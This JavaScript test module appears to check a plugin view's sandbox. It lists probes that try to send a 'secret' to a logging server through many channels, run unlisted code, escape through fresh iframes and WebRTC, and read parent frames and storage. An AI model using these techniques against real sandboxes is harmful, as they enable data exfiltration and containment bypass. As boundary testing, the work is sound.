/**
 * What a view must not be able to do, each as a function that gives what it got, or throws. The same functions run in
 * a page without a boundary, where each must work: else it would prove nothing.
 *
 * `target` has addresses of a server that writes down all that comes, on TCP and UDP.
 */
const settled = (element, what = "load") =>
  new Promise((resolve, reject) => {
    element.addEventListener(what, () => resolve(what));
    element.addEventListener("error", () => reject(new Error("refused")));
  });
/** For what has no event of its own. */
const moment = () => new Promise((resolve) => setTimeout(resolve, 250));
/** What the browser refuses without an error; the server knows whether it was done. */
const silently = async (begin) => {
  begin();
  await moment();
  return "begun";
};
const keysOf = async (module) => Object.keys(await module).join();
const make = (name, properties, parent = document.body) => {
  const element = Object.assign(document.createElement(name), properties);
  parent.append(element);
  return element;
};
const link = (rel, href, more) => silently(() => make("link", { rel, href, ...more }, document.head));
const within = (promise) =>
  Promise.race([promise, moment().then(moment).then(() => Promise.reject(new Error("nothing came")))]);

/** Takes WebRTC from a realm, and has it send something. */
async function callOut(realm, { stun }) {
  const { RTCPeerConnection } = realm;
  if (!RTCPeerConnection) throw new Error("there is no RTCPeerConnection");
  const connection = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
  connection.createDataChannel("out");
  await connection.setLocalDescription(await connection.createOffer());
  await moment();
  return "a peer connection";
}

/** A fresh realm, of a frame that the view makes. */
async function realmOf(properties) {
  const frame = make("iframe", {});
  const loaded = settled(frame);
  Object.assign(frame, properties);
  document.body.append(frame);
  await within(loaded);
  // Touching it throws when it is of another origin.
  void frame.contentWindow.document;
  return frame.contentWindow;
}

/** A frame whose document runs a script of the plugin's own, in a realm that nobody has disarmed. */
async function scriptIn(write) {
  const src = new URL("./out.js", import.meta.url).href;
  const heard = new Promise((resolve) => addEventListener("message", ({ data }) => data?.out && resolve(data.out)));
  await write(`<!doctype html><script src="${src}"></` + "script>");
  const found = await within(heard);
  if (found !== "RTCPeerConnection") throw new Error(found);
  return found;
}

export const probes = {
  // The network, by script.
  fetch: async ({ http }) => (await fetch(`${http}/fetch`)).text(),
  "fetch-no-cors": async ({ http }) => (await fetch(`${http}/fetch`, { mode: "no-cors" })).type,
  "fetch-keepalive": async ({ http }) =>
    (await fetch(`${http}/keep`, { method: "POST", body: "secret", keepalive: true })).status,
  xhr: ({ http }) => {
    const request = new XMLHttpRequest();
    request.open("GET", `${http}/xhr`);
    request.send();
    return settled(request);
  },
  websocket: ({ ws }) => settled(new WebSocket(`${ws}/socket`), "open"),
  "event-source": ({ http }) => settled(new EventSource(`${http}/events`), "message"),
  beacon: ({ http }) => silently(() => navigator.sendBeacon(`${http}/beacon`, "secret")),
  "rtc-direct": (target) => callOut(self, target),

  // The network, by elements.
  image: ({ http }) => settled(make("img", { src: `${http}/image.gif?secret` })),
  "css-image": ({ http }) =>
    silently(() => (make("p", {}).style.backgroundImage = `url("${http}/background.gif?secret")`)),
  audio: ({ http }) => silently(() => make("audio", { src: `${http}/audio`, preload: "auto" }).load()),
  "style-sheet": ({ http }) => settled(make("link", { rel: "stylesheet", href: `${http}/style.css` })),
  font: async ({ http }) => silently(() => new FontFace("out", `url("${http}/font")`).load().catch(() => {})),
  frame: ({ http }) => silently(() => make("iframe", { src: `${http}/frame?secret` })),
  object: ({ http }) => silently(() => make("object", { data: `${http}/object`, type: "text/html" })),
  "form-post": ({ http }) =>
    silently(() => {
      const form = make("form", { action: `${http}/form`, method: "post", target: "_self" });
      make("input", { name: "secret", value: "1" }, form);
      form.submit();
    }),
  prefetch: ({ http }) => link("prefetch", `${http}/prefetch?secret`),
  preload: ({ http }) => link("preload", `${http}/preload?secret`, { as: "image" }),
  "module-preload": ({ http }) => link("modulepreload", `${http}/preload.js?secret`),
  "anchor-ping": ({ http }) =>
    silently(() => make("a", { href: "#here", ping: `${http}/ping` }).click()),

  // Going elsewhere.
  popup: ({ http }) =>
    silently(() => {
      if (!open(`${http}/popup?secret`)) throw new Error("no window was opened");
    }),
  "anchor-blank": ({ http }) =>
    silently(() => make("a", { href: `${http}/anchor?secret`, target: "_blank" }).click()),
  "go-top": ({ http }) => silently(() => (top.location.href = `${http}/top?secret`)),
  "go-top-anchor": ({ http }) => silently(() => make("a", { href: `${http}/top?secret`, target: "_top" }).click()),
  "go-self": ({ http }) => silently(() => (location.href = `${http}/self?secret`)),
  "go-self-refresh": ({ http }) =>
    silently(() => make("meta", { httpEquiv: "refresh", content: `0;url=${http}/refresh?secret` }, document.head)),
  download: ({ http }) => silently(() => make("a", { href: `${http}/download?secret`, download: "x" }).click()),

  // Code that is not of the manifest.
  eval: () => (0, eval)("'eval'"),
  function: () => new Function("return 'function'")(),
  "timer-text": () => within(new Promise((resolve) => ((self.taken = resolve), setTimeout("taken('text')", 0)))),
  "inline-script": () =>
    within(
      new Promise((resolve) => {
        self.taken = resolve;
        make("script", { textContent: "taken('inline')" });
      }),
    ),
  "inline-handler": () =>
    within(
      new Promise((resolve) => {
        self.taken = resolve;
        const button = make("button", {});
        button.setAttribute("onclick", "taken('handler')");
        button.click();
      }),
    ),
  html: () => ((make("p", {}).innerHTML = "<b>bold</b>"), "markup of text"),
  "script-url": () => silently(() => make("iframe", { src: "javascript:parent.taken()" })) && scriptURL(),
  "import-blob": () =>
    keysOf(import(URL.createObjectURL(new Blob(["export const blob = 1"], { type: "text/javascript" })))),
  "import-data": () => keysOf(import("data:text/javascript,export const data = 1")),
  "import-foreign": ({ http }) => keysOf(import(`${http}/foreign.js`)),
  "import-unlisted": () => keysOf(import(new URL("./unlisted.js", import.meta.url))),
  "script-foreign": ({ http }) => settled(make("script", { src: `${http}/foreign.js`, type: "module" })),
  "worker-own": () => within(settled(new Worker(new URL("./worker.js", import.meta.url)), "message")),
  "worker-blob": () =>
    within(settled(new Worker(URL.createObjectURL(new Blob(["postMessage('blob')"]))), "message")),
  "shared-worker": () => {
    const { port } = new SharedWorker(new URL("./worker.js", import.meta.url));
    port.start();
    return within(settled(port, "message"));
  },
  "service-worker": async () =>
    (await navigator.serviceWorker.register(new URL("./worker.js", import.meta.url))).scope,
  "wasm-compile": async () =>
    String(await WebAssembly.compile(new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]))),

  // Others.
  "parent-document": () => parent.document.title,
  "parent-variable": () => parent.secret,
  "top-document": () => top.document.title,
  "frame-element": () => {
    if (!frameElement) throw new Error("no frame element is seen");
    return frameElement.outerHTML;
  },
  sibling: () => {
    const found = [];
    for (let index = 0; index < parent.length; index++) {
      try {
        if (parent[index] !== self) found.push(parent[index].secret);
      } catch {
        // Of another origin.
      }
    }
    if (!found.some(Boolean)) throw new Error(`none of ${parent.length} frames lets itself be read`);
    return found.join();
  },
  broadcast: async () => {
    // A view that is open beside this one answers.
    const channel = new BroadcastChannel("probe");
    channel.postMessage("asked");
    return (await within(settled(channel, "message"))) && "an answer";
  },

  // What a browser keeps.
  cookie: () => {
    document.cookie = "probe=1; path=/";
    if (!document.cookie.includes("probe=1")) throw new Error("no cookie was kept");
    return document.cookie;
  },
  "local-storage": () => ((localStorage.probe = "1"), localStorage.probe),
  "session-storage": () => ((sessionStorage.probe = "1"), sessionStorage.probe),
  "indexed-db": () => settled(indexedDB.open("probe"), "success"),
  "cache-storage": async () => String(await caches.open("probe")),
  "private-files": async () => String(await navigator.storage.getDirectory()),

  // What was taken from the view, out of a fresh frame.
  "rtc-blank": async (target) => callOut(await realmOf({ src: "about:blank" }), target),
  "rtc-nothing": async (target) => callOut(make("iframe", {}).contentWindow, target),
  "rtc-srcdoc": async (target) => callOut(await realmOf({ srcdoc: "<p>fresh</p>" }), target),
  "rtc-blob": async (target) =>
    callOut(
      await realmOf({ src: URL.createObjectURL(new Blob(["<p>fresh</p>"], { type: "text/html" })) }),
      target,
    ),
  "rtc-script-srcdoc": () => scriptIn((html) => make("iframe", { srcdoc: html })),
  "rtc-script-attribute": () => scriptIn((html) => make("iframe", {}).setAttribute("srcdoc", html)),
  "rtc-script-write": () =>
    scriptIn((html) => {
      const { document: fresh } = make("iframe", {}).contentWindow;
      fresh.write(html);
      fresh.close();
    }),
  "rtc-script-blob": () =>
    scriptIn((html) => make("iframe", { src: URL.createObjectURL(new Blob([html], { type: "text/html" })) })),
  "rtc-script-data": () =>
    scriptIn((html) => make("iframe", { src: `data:text/html,${encodeURIComponent(html)}` })),
};

async function scriptURL() {
  let isTaken = false;
  self.taken = () => (isTaken = true);
  await moment();
  if (!isTaken) throw new Error("the address was not run");
  return "javascript:";
}
